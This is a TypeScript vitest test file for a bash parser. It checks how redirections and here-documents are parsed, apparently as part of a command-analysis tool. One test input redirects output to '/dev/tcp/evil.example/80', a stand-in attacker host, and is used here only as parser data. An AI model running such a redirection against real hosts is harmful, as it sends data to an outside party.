// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is how bash writes an expansion
import { describe, expect, test } from "vitest";
import { readCommands, readReasons, show } from "../support.ts";

async function readRedirects(text: string): Promise<string[]> {
  const commands = await readCommands(text);
  const last = commands.findLast(({ inside }) => inside === undefined)!;
  return last.redirects.map(
    ({ descriptor, operator, target }) => `${descriptor ?? ""}${operator} ${show(target)}`,
  );
}

describe("redirections", () => {
  test.each<[string, string[]]>([
    ["a > b", ["> b"]],
    ["> b", ["> b"]],
    ["> b a 2>>c <d", ["> b", "2>> c", "< d"]],
    ["a &> b", ["&> b"]],
    ["a &>> b", ["&>> b"]],
    ["a >| b", [">| b"]],
    ["a <> b", ["<> b"]],
    ["a 2>&1", ["2>& 1"]],
    ["a >& b", [">& b"]],
    ["a 2>&-", ["2>& -"]],
    ["a 3<&0-", ["3<& 0-"]],
    ["a {fd}> b", ["fd> b"]],
    ["a >! b", ["> !"]],
    ["a 2>&$v", ["2>& ?…"]],
    ['a > "$OUT"', ["> ?…"]],
    ["a > b/$x", ["> ?…"]],
    ["a > {b,c}", ["> ?…"]],
    ["a > *.txt", ["> **.txt"]],
    ["f=o; a > $f", ["> $o"]],
    ["f='o p'; a > $f", ["> ?…"]],
    ["f=; a > $f", ["> ?…"]],
    ["a > /dev/tcp/evil.example/80", ["> /dev/tcp/evil.example/80"]],
    ["! a > b", ["> b"]],
    ["c && a > b", ["> b"]],
    ["a > >(cat)", ["> ?/dev/fd/…"]],
  ])("%s", async (text, redirects) => {
    expect(await readRedirects(text)).toEqual(redirects);
  });

  test("those of a group, loop, subshell, condition or function count for all in it", async () => {
    for (const text of [
      "{ a; } > o",
      "(a) > o",
      "for i in 1; do a; done > o",
      "while a; do a; done > o",
      "if a; then a; fi > o",
      "case a in b) a;; esac > o",
      "f() { a; } > o",
      "{ (a) 2> p; } > o",
    ]) {
      const commands = await readCommands(text);
      const inner = commands.findLast(({ words }) => words.length > 0);
      expect(inner?.redirects.map(({ target }) => show(target))).toContain("o");
    }
  });

  test.each([
    "((1)) > o",
    "{ ((1)); } > o",
    "for i in 1; do ((1)); done > o",
    "f() { ((1)); } > o",
    "[[ a ]] > o",
  ])("one around no command at all is told by itself: %s", async (text) => {
    const commands = await readCommands(text);
    const bare = commands.find(({ words }) => words.length === 0);
    expect(bare?.redirects.map(({ target }) => show(target))).toEqual(["o"]);
  });
});

describe("here-documents", () => {
  test.each<[string, string[]]>([
    ["cat <<E\nhello\nE", ["<< hello\n"]],
    ["cat <<'E'\n$(x) $y \\a\nE", ["<< $(x) $y \\a\n"]],
    ['cat <<"E"\n`x`\nE', ["<< `x`\n"]],
    ["cat <<-E\n\ta\n\t\tb\n\tE", ["<<- a\nb\n"]],
    ["cat <<-'E'\n\t$(x)\n\tE", ["<<- $(x)\n"]],
    ["cat <<E\n\\$x \\` \\\\ \\q \"'\nE", ["<< $x ` \\ \\q \"'\n"]],
    ["cat <<E\na\\\nb\nE", ["<< ab\n"]],
    ["cat <<E\na $x\nE", ["<< ?a …"]],
    ["v=1; cat <<E\na $v\nE", ["<< $a 1\n"]],
    ["cat <<A <<B\nx\nA\ny\nB", ["<< x\n", "<< y\n"]],
    ["cat <<< 'a b'", ["<<< a b"]],
    ["v='a  b'; cat <<< $v", ["<<< $a  b"]],
    ["cat <<< $x", ["<<< ?…"]],
    ["cat <<< {a,b}*", ["<<< {a,b}*"]],
  ])("%j", async (text, redirects) => {
    expect(await readRedirects(text)).toEqual(redirects);
  });

  test("one without its end is a problem, though bash only warns of it", async () => {
    expect(await readReasons("cat <<E\nhello")).not.toBe("");
  });
});
